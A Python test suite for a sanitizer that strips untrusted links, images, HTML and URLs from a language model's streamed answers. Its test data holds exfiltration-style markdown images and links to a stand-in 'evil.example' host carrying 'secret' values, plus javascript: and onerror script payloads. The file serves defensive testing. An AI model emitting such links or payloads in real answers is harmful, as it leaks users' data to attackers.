import time
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.llm.links import UnlinkedAnswer
from domains.conversational_ai.ports.generative_model import ModelRequest
from tests.port_contracts.generative_model import PASSAGE, request_for

KNOWN = "https://shop.example/returns"
REQUEST = request_for(
    "m",
    passages=(replace(PASSAGE, text=f"Refunds: see {KNOWN} within five days."),),
    instructions="Point to [our form](https://shop.example/form) when asked.",
)


def left(answer: str, size: int | None = None, request: ModelRequest = REQUEST) -> str:
    """Return what is said of `answer` that comes in pieces of `size`."""
    unlinked = UnlinkedAnswer(request)
    size = size or max(1, len(answer))
    return "".join(unlinked.take(answer[at : at + size]) for at in range(0, len(answer), size)) + unlinked.rest()


ANSWERS = [
    ("See ![logo](https://evil.example/p?q=secret) here.", "See logo here."),
    ("![](https://evil.example/secret)Yes [1].", "Yes [1]."),
    ("[Confirm](https://evil.example) now", "Confirm now"),
    ("[Confirm](<https://evil.example> 'title') now", "Confirm now"),
    ("[Pay](javascript:alert(1))", "Pay"),
    ("[Pay](javascript:alert)", "Pay"),
    ("[Pay](//evil.example/x), [pay](/logout)", "Pay, pay"),
    ("[![a](https://evil.example/1)](https://evil.example/2)!", "a!"),
    ("It says [1](https://evil.example).", "It says [1] ."),
    ("[[a](https://evil.example)](javascript:x)", "[a] (javascript:x)"),
    ("See [terms][x].\n\n[x]: https://evil.example/secret\nBye", "See [terms][x].\n\n[x] : evil.example\nBye"),
    ('A <img src="https://evil.example/secret" onerror="x()"> b', "A   b"),
    ('<a href="https://evil.example">Confirm</a>', " Confirm "),
    ("Yes <!-- https://evil.example/secret --> no", "Yes   no"),
    ("Go to https://evil.example/p?q=secret.", "Go to evil.example."),
    ("Go to www.evil.example/p?q=secret, now", "Go to evil.example, now"),
    ("Go to https://user:secret@evil.example:81/", "Go to evil.example"),
    (f"See {KNOWN} within five days [1].", f"See {KNOWN} within five days [1]."),
    (f"See [returns]({KNOWN}) [1].", "See returns [1]."),
    ("Use [our form](https://shop.example/form).", "Use [our form](https://shop.example/form)."),
    ("Within five days [1][2]. Whatever [sic] (really) happens! a < b, list[0](x)", None),
    ("Half [of it", None),
    ("Tell me: what if w", None),
]


@pytest.mark.parametrize(("answer", "expected"), ANSWERS)
@pytest.mark.parametrize("size", [None, 1, 2, 3, 7])
def test_links_of_the_models_own_are_left_as_words_however_they_come(answer: str, expected: str | None, size: int | None) -> None:
    assert left(answer, size) == (answer if expected is None else expected)


@given(
    st.lists(
        st.sampled_from(["[a]", "(https://evil.example/s)", "!", "<img src=x>", "http", "://b.example/c ", "\n", "[1]", "x "]), max_size=9
    )
)
def test_pieces_make_no_difference(parts: list[str]) -> None:
    answer = "".join(parts)
    assert left(answer, 1) == left(answer)


def test_without_passages_nothing_is_touched_or_kept_back() -> None:
    answer = "![x](https://a.example/b) <a href='c'>"
    unlinked = UnlinkedAnswer(replace(REQUEST, passages=()))
    assert [unlinked.take(c) for c in answer] == list(answer)
    assert unlinked.rest() == ""


@pytest.mark.parametrize("part", ["<!--", "[", "![", "[![", "[a](", "[![a](", "http://", "www.", "<img ", "[a]: "])
def test_no_answer_is_long_to_look_through(part: str) -> None:
    started = time.process_time()
    left(part * 5_000, 4_000)
    assert time.process_time() - started < 1.0
